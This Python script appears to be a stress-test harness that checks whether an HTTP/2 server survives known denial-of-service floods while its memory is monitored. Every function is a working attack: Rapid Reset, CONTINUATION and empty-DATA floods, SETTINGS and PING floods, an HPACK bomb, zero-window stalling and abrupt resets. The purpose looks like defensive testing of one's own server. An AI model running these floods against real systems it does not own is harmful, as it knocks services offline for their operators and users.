"""Floods of HTTP/2 frames, each for a few seconds, while a healthy client goes on and the server's memory is watched.

Usage: python floods.py HOST:PORT PID
"""

import itertools
import select
import socket
import struct
import sys
import time

from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

from healthy import Watch

SECONDS = 2.5
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Frames that go out with one call: Python is slow, the server must not be spared for that.
AT_ONCE = 200


class Connection:
    """A connection of HTTP/2 that says what it likes, and says it until the other side has enough."""

    def __init__(self, address, settings=None, reads=True):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=1)
        self.encoder = Encoder()
        self.reads = reads
        self.authority = address
        self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())

    def send(self, data):
        """Sends all of it, or says with an error that the other side does not want it."""
        if self.reads:
            while select.select([self.socket], [], [], 0)[0]:
                if not self.socket.recv(1 << 16):
                    raise ConnectionError("closed")
        self.socket.sendall(data)

    def head(self, method, path, more=()):
        fields = [(":method", method), (":scheme", "http"), (":authority", self.authority), (":path", path)]
        return self.encoder.encode([*fields, *more])


def headers(stream, block, *flags):
    return HeadersFrame(stream, block, flags=flags).serialize()


def flood(address, frames, **options):
    """Sends what `frames` makes, on as many connections as are cut, until the time is over."""
    end = time.monotonic() + SECONDS
    sent = cut = stuck = 0
    while time.monotonic() < end:
        try:
            connection = Connection(address, **options)
            for data, count in frames(connection):
                if time.monotonic() >= end:
                    break
                connection.send(data)
                sent += count
        except TimeoutError:
            # The server does not read on, because nobody reads what it says.
            stuck += 1
        except OSError:
            cut += 1
        finally:
            connection.socket.close()
    return f"{sent} frames, {cut} connections cut, {stuck} not read on"


def rapid_reset(connection):
    """Requests that are taken back at once (CVE-2023-44487)."""
    streams = itertools.count(1, 2)
    while True:
        data = b""
        for stream in itertools.islice(streams, AT_ONCE):
            block = connection.head("GET", "/v1/queues")
            data += headers(stream, block, "END_HEADERS", "END_STREAM")
            data += RstStreamFrame(stream, error_code=8).serialize()
        yield data, 2 * AT_ONCE


def continuation(connection):
    """A head that goes on forever (CVE-2024-27316 and its kin)."""
    yield headers(1, connection.head("GET", "/"), "END_STREAM"), 1
    part = ContinuationFrame(1, Encoder().encode([("x-more", "y" * 8_000)])).serialize()
    while True:
        yield part * 10, 10


def empty_continuation(connection):
    yield headers(1, connection.head("GET", "/"), "END_STREAM"), 1
    while True:
        yield ContinuationFrame(1, b"").serialize() * AT_ONCE, AT_ONCE


def empty_data(connection):
    """A body of pieces without anything in them (CVE-2019-9518)."""
    head = connection.head("POST", "/v1/queues/flood/messages", [("content-type", "application/json")])
    yield headers(1, head, "END_HEADERS"), 1
    while True:
        yield DataFrame(1, b"").serialize() * AT_ONCE, AT_ONCE


def settings(connection):
    """Settings that all have to be acknowledged (CVE-2019-9515)."""
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096}).serialize() * AT_ONCE, AT_ONCE


def ping(connection):
    """Pings that all have to be answered (CVE-2019-9512)."""
    while True:
        yield PingFrame(0, b"12345678").serialize() * AT_ONCE, AT_ONCE


def hpack_bomb(connection):
    """Heads that are small on the wire, and large once every reference into the table is followed."""
    large = Encoder().encode([("x-large", "y" * 4_000)])
    # The last field that was put into the table, a thousand times: one byte for four thousand.
    references = bytes([0x80 | 62]) * 16_000
    streams = itertools.count(1, 2)
    while True:
        block = connection.head("GET", "/") + large + references
        yield headers(next(streams), block[:16_384], "END_HEADERS", "END_STREAM"), 1


def window_zero(address):
    """Asks for a lot on many streams, and takes none of it (CVE-2019-9517)."""
    held = []
    for _ in range(20):
        connection = Connection(address, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}, reads=False)
        paths = itertools.cycle(["/openapi.json", "/metrics"])
        for stream, path in zip(range(1, 512, 2), paths):
            connection.send(headers(stream, connection.head("GET", path), "END_HEADERS", "END_STREAM"))
        held.append(connection)
    time.sleep(SECONDS)
    for connection in held:
        connection.socket.close()
    return f"{len(held)} connections of 256 answers that nobody takes"


def reset_abruptly(address):
    """Connections that are cut in the middle of a frame, as fast as they can be made."""
    end = time.monotonic() + SECONDS
    cut = 0
    while time.monotonic() < end:
        connection = Connection(address, reads=False)
        connection.socket.sendall(b"\x00\x40\x00\x01")
        connection.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connection.socket.close()
        cut += 1
    return f"{cut} connections"


def main():
    address, pid = sys.argv[1:]
    watch = Watch(address, pid)
    for attack in (rapid_reset, continuation, empty_continuation, empty_data, hpack_bomb):
        watch.survives(attack.__name__, lambda: flood(address, attack))
    for attack in (settings, ping):
        watch.survives(attack.__name__, lambda: flood(address, attack))
        watch.survives(f"{attack.__name__}, unread", lambda: flood(address, attack, reads=False))
    watch.survives("window_zero", lambda: window_zero(address))
    watch.survives("reset_abruptly", lambda: reset_abruptly(address))


if __name__ == "__main__":
    main()
